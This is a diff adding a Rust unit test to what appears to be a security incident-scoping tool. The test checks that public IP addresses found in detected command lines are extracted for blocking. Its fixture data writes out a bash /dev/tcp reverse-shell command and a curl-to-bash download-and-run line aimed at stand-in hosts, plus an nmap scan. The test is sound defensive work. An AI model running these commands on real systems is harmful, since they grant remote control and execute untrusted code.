@@ -661,3 +661,47 @@ fn one_finding_under_three_tactics_does_not_raise_the_severity() {
     assert_eq!(inc[0].severity, Level::High, "{:?}", inc[0].severity_reason);
     assert_eq!(inc[0].severity_reason, None);
 }
+
+/// On Linux the reverse shell's address is only in its command line
+/// (auditd has no network event for it): "block 0 IP(s)" after a detected
+/// `/dev/tcp` reverse shell. Public addresses in a command line are in
+/// scope; internal ones and version numbers are not.
+#[test]
+fn public_addresses_in_a_command_line_are_in_scope() {
+    let fs = vec![
+        finding(
+            "revshell",
+            Level::High,
+            "web03",
+            0,
+            &["T1059.004"],
+            &[(
+                "CommandLine",
+                "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1; curl -s http://198.51.100.7:8080/x.sh | bash",
+            )],
+        ),
+        finding(
+            "scan",
+            Level::High,
+            "web03",
+            10,
+            &["T1046"],
+            &[(
+                "CommandLine",
+                "nmap 10.0.0.0/24 --version 10.0.19041.1 -oN out.1.2.3",
+            )],
+        ),
+    ];
+    let scope = Scope::from_findings(&fs, Level::Low);
+    let ips: Vec<(&str, &[&str])> = scope
+        .ips
+        .iter()
+        .map(|e| (e.value.as_str(), e.roles.as_slice()))
+        .collect();
+    let values: Vec<&str> = ips.iter().map(|(v, _)| *v).collect();
+    assert_eq!(values.len(), 2, "{ips:?}");
+    for want in ["203.0.113.50", "198.51.100.7"] {
+        let (_, roles) = ips.iter().find(|(v, _)| *v == want).expect(want);
+        assert!(roles.contains(&"command line"), "{want}: {roles:?}");
+    }
+}
